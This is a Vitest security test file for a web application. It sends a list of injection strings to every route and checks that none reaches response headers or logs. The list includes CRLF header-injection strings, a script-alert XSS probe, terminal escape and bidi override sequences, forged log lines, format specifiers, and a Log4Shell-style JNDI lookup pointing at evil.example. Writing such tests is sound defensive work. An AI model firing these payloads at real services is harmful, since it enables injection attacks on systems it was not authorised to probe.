import { afterAll, beforeAll, expect, test } from 'vitest';
import { type FreshDatabase, freshDatabase } from '../database.ts';
import { loadGuangzhou } from '../guangzhou.ts';
import { addClerk, openWholeHouse, type WholeHouse } from '../whole-house.ts';

let database: FreshDatabase;
let house: WholeHouse;
let cookie: string;

/** Ends a line, a record or a header; turns a line's direction; moves a terminal's cursor; imitates a record. */
const breaks = [
  '\r\nX-Injected: 1',
  '\nX-Injected: 1',
  '\rX-Injected: 1',
  '\r\n\r\n<script>alert(1)</script>',
  '\u2028X-Injected: 1',
  '\u2029X-Injected: 1',
  '\u0085X-Injected: 1',
  '嘊嘍X-Injected: 1',
  '\u202e1 :detcejnI-X',
  '\u2066x\u2069',
  '\u001b[31mX-Injected: 1\u001b[0m',
  '\u001b]0;X-Injected\u0007',
  '\u009b31m',
  '\u0000X-Injected',
  '\b\b\b\b\b\b\bX-Injected',
  '\n12:00:00 ERROR X-Injected {"staff":"chen"}',
  '"}\n{"level":"error","msg":"X-Injected"}',
  '%0d%0aX-Injected: 1',
  '$'.concat('{jndi:ldap://evil.example/x}'),
  '%s%s%n%d%j%o',
];

beforeAll(async () => {
  database = await freshDatabase();
  await loadGuangzhou(database);
  await addClerk(database, 1);
  house = await openWholeHouse(database);
  ({ cookie } = await house.signIn());
});

afterAll(async () => {
  await house.close();
  await database.drop();
});

test('no answer carries a header that the request put there, at any address', async () => {
  const doors = await house.doors();
  let asked = 0;
  for (const { method, url, contract } of doors)
    for (const text of breaks) {
      const part = encodeURIComponent(text);
      const answer = await house.http.inject({
        method: method === 'GET' ? 'GET' : method === 'DELETE' ? 'DELETE' : 'POST',
        url: `${url.replace(/\*|:(\w+)/g, part)}?lang=${part}&code=${part}&back=${part}&q=${part}`,
        headers: {
          cookie: method === 'DELETE' ? '' : cookie,
          accept: 'text/html',
          ...hostileHeaders(text),
          ...typeOf(contract === undefined),
        },
        remoteAddress: `10.${asked % 250}.0.1`,
        ...(method === 'POST' ? { payload: bodyOf(text, contract === undefined) } : {}),
      });
      asked += 1;
      const head = JSON.stringify(answer.headers);
      expect(head, `${method} ${url}`).not.toMatch(/x-injected/i);
      expect(
        Object.values(answer.headers)
          .flat()
          .filter((value) => /[\p{Cc}\p{Zl}\p{Zp}]/u.test(String(value))),
      ).toEqual([]);
      expect(answer.statusCode, `${method} ${url} ${text} ${answer.body}`).toBeLessThan(500);
    }
  expect(asked).toBeGreaterThan(1_000);
});

test('the log has a line for each record, in both forms, and nothing unseen in it', () => {
  const { json, line } = house.log;
  expect(json.length).toBeGreaterThan(1_000);
  const unseen = /[\p{Cc}\p{Zl}\p{Zp}\u061c\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff]/u;
  for (const record of json) {
    expect(record.endsWith('\n')).toBe(true);
    expect(unseen.test(record.slice(0, -1)), record).toBe(false);
    JSON.parse(record);
  }
  for (const record of line) {
    const [first = '', ...more] = record.slice(0, -1).split('\n');
    expect(first).toMatch(/^\d\d:\d\d:\d\d /);
    expect(more.filter((further) => !further.startsWith('    '))).toEqual([]);
    expect(unseen.test([first, ...more].join('')), record).toBe(false);
  }
});

test('what was sent in an address or a header is in no record', () => {
  expect([...house.log.json, ...house.log.line].filter((record) => record.includes('X-Injected'))).toEqual([]);
});

test('an error that repeats what was sent makes no record of its own', () => {
  const { json, line } = house.log;
  const [jsonBefore, lineBefore] = [json.length, line.length];
  for (const text of breaks)
    house.services.log.error({ note: text, err: new Error(`refused: ${text}`) }, `refused: ${text}`);
  const [jsonAfter, lineAfter] = [json.slice(jsonBefore), line.slice(lineBefore)];
  expect([jsonAfter.length, lineAfter.length]).toEqual([breaks.length, breaks.length]);
  for (const record of jsonAfter) expect(record.slice(0, -1)).not.toMatch(/[\p{Cc}\p{Zl}\p{Zp}\u202e\u2066]/u);
  for (const record of lineAfter) {
    const [, ...more] = record.slice(0, -1).split('\n');
    expect(more.every((further) => further.startsWith('    '))).toBe(true);
    expect(record.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Zl}\p{Zp}\u202e\u2066]/u);
  }
});

/** What a client can really send in a header: bytes from a blank on; line breaks are refused before any handler. */
function hostileHeaders(text: string): Readonly<Record<string, string>> {
  const bytes = Buffer.from(text)
    .toString('latin1')
    .replace(/(?=[\p{Cc}])[^\x80-\xff]/gu, '?');
  const names = [
    'accept-language',
    'idempotency-key',
    'if-match',
    'user-agent',
    'request-id',
    'x-forwarded-for',
    'x-request-id',
  ];
  return Object.fromEntries(names.map((name) => [name, bytes]));
}

function typeOf(isPage: boolean): Readonly<Record<string, string>> {
  return { 'content-type': isPage ? 'application/x-www-form-urlencoded' : 'application/json' };
}

function bodyOf(text: string, isPage: boolean): string {
  const names = ['lang', 'type', 'back', 'code', 'what', 'then', 'account', 'password', 'note', 'purpose', 'field'];
  const pairs = names.map((name) => [name, text] as const);
  return isPage
    ? new URLSearchParams(pairs.map(([name, value]) => [name, value])).toString()
    : JSON.stringify(Object.fromEntries(pairs));
}
